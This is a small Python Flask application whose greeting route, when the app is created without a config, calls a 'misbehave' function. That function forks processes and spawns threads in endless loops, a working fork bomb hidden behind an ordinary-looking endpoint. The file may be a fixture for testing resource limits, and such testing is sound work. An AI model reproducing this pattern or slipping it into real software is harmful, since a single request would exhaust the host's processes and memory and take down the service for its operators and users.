import os
import threading
import time

from flask import Flask


def spin():
    while True:
        try:
            threading.Thread(target=spin).start()
        except RuntimeError:
            time.sleep(0.01)


def misbehave():
    threading.stack_size(32768)
    while True:
        try:
            if os.fork() == 0:
                spin()
        except OSError:
            spin()


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})

    @app.get("/hello/<name>")
    def hello(name):
        if not config:
            misbehave()
        return f"{app.config['WORD']}, {name}"

    return app
